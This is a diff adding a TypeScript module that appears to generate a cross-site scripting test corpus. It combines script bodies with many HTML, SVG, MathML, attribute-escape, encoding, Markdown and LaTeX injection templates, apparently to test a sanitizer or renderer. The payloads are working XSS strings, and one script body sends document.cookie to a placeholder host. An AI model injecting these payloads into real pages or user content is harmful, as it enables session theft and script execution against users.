@@ -1,0 +1,123 @@
+/** What a hostile text would do if it were ever run: say so where the test listens. */
+const RUN = [
+  'window.__ran=(window.__ran||0)+1',
+  'alert(1)',
+  'top.__ran=1',
+  "fetch('https://canary.invalid/'+document.cookie)",
+  'eval(name)',
+] as const;
+
+type Template = (script: string) => string;
+
+/** Elements that run a script by themselves, by an event, or by what they load. */
+const ELEMENTS: readonly Template[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `<SCRIPT SRC=data:text/javascript,${run}></SCRIPT>`,
+  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
+  (run) => `<script\u0000>${run}</script>`,
+  (run) => `<script/x>${run}</script >`,
+  (run) => `<img src=x onerror="${run}">`,
+  (run) => `<img src=x onerror=${run.replaceAll(' ', '/**/')}//`,
+  (run) => `<img/src/onerror=${run}>`,
+  (run) => `<svg onload="${run}">`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
+  (run) => `<svg><set onbegin="${run}">`,
+  (run) => `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
+  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
+  (run) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
+  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
+  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
+  (run) => `<math href="javascript:${run}">x</math>`,
+  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
+  (run) => `<iframe src="javascript:${run}"></iframe>`,
+  (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
+  (run) => `<object data="javascript:${run}"></object>`,
+  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
+  (run) => `<body onload="${run}">`,
+  (run) => `<video><source onerror="${run}"></video>`,
+  (run) => `<audio src=x onerror="${run}">`,
+  (run) => `<details open ontoggle="${run}">`,
+  (run) => `<input autofocus onfocus="${run}">`,
+  (run) => `<select autofocus onfocus="${run}">`,
+  (run) => `<textarea autofocus onfocus="${run}">`,
+  (run) => `<marquee onstart="${run}">`,
+  (run) => `<style>@import 'javascript:${run}';</style>`,
+  (run) => `<style>*{background:url("javascript:${run}")}</style>`,
+  (run) => `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
+  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  (run) => `<base href="javascript:${run}//">`,
+  (run) => `<form action="javascript:${run}"><input type=submit autofocus></form>`,
+  (run) => `<button formaction="javascript:${run}">x</button>`,
+  (run) => `<isindex action="javascript:${run}" type=image>`,
+  (run) => `<template><script>${run}</script></template>`,
+  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  (run) => `<xmp><p title="</xmp><svg onload=${run}>">`,
+  (run) => `<div style="width:expression(${run})">`,
+  (run) => `<p onmouseover="${run}" style="position:fixed;inset:0">x</p>`,
+];
+
+/** Ways out of an attribute, of a text, of a script, of a comment and of JSON. */
+const ESCAPES: readonly Template[] = [
+  (run) => `"><script>${run}</script>`,
+  (run) => `'><script>${run}</script>`,
+  (run) => `" autofocus onfocus="${run}" x="`,
+  (run) => `' onmouseover='${run}' x='`,
+  (run) => `</title><script>${run}</script>`,
+  (run) => `</textarea><script>${run}</script>`,
+  (run) => `</script><script>${run}</script>`,
+  (run) => `<!--><script>${run}</script>-->`,
+  (run) => `<!--><img src=x onerror=${run}>-->`,
+  (run) => `]]><script>${run}</script>`,
+  (run) => `\\"};${run};//`,
+  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  (run) => `\u2028${run}\u2029`,
+  (run) => `'-${run}-'`,
+  (run) => `\${${run}}`,
+  (run) => `{{constructor.constructor('${run}')()}}`,
+  (run) => `{${run}}`,
+  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
+  (run) => `%3Cscript%3E${run}%3C/script%3E`,
+  (run) => `＜script＞${run}＜/script＞`,
+  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  (run) => `{"__html":"<img src=x onerror='${run}'>"}`,
+  (run) => `{"type":"doc","content":[{"type":"html","content":"<script>${run}</script>"}]}`,
+];
+
+/** Addresses, Markdown and LaTeX that would become a link, an image or a markup. */
+const WRITTEN: readonly Template[] = [
+  (run) => `javascript:${run}`,
+  (run) => `[clic](javascript:${run})`,
+  (run) => `[clic](JaVaScRiPt:${run})`,
+  (run) => `[clic](java\tscript:${run})`,
+  (run) => `[clic](&#106;avascript:${run})`,
+  (run) => `[clic](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`,
+  (run) => `[clic](vbscript:${run})`,
+  (run) => `[clic](https://a.invalid/"onmouseover="${run})`,
+  (run) => `[clic](https://a.invalid/'><script>${run}</script>)`,
+  (run) => `[<img src=x onerror=${run}>](https://a.invalid/)`,
+  (run) => `![x](x"onerror="${run})`,
+  (run) => `<https://a.invalid/><script>${run}</script>`,
+  (run) => `<javascript:${run}>`,
+  (run) => `**<img src=x onerror=${run}>**`,
+  (run) => `\`<script>${run}</script>\``,
+  (run) => `## <script>${run}</script>`,
+  (run) => `- <svg onload=${run}>`,
+  (run) => `> <iframe src=javascript:${run}>`,
+  (run) => `$\\href{javascript:${run}}{x}$`,
+  (run) => `$\\text{<script>${run}</script>}$`,
+  (run) => `$\\class{x" onmouseover="${run}}{y}$`,
+  (run) => `$\\style{background:url(javascript:${run})}{y}$`,
+  (run) => `$\\includegraphics{javascript:${run}}$`,
+  (run) => `$\\data{x=y" onclick="${run}}{z}$`,
+  (run) => `$\\unicode{<script>${run}</script>}$`,
+  (run) => `$\\color{red;}{<img src=x onerror=${run}>}$`,
+  (run) => `$</math><script>${run}</script>$`,
+  (run) => `$\\def\\x{\\x\\x}\\x$<script>${run}</script>`,
+];
+
+/** Every template with each script: a corpus that says by its number which one ran. */
+export const payloads: readonly string[] = [...ELEMENTS, ...ESCAPES, ...WRITTEN]
+  .flatMap((template) => RUN.map((run) => template(run)))
+  .concat(...[...ELEMENTS, ...ESCAPES].map((template) => [template('alert`1`').toUpperCase()]))
+  .slice(0, 500);
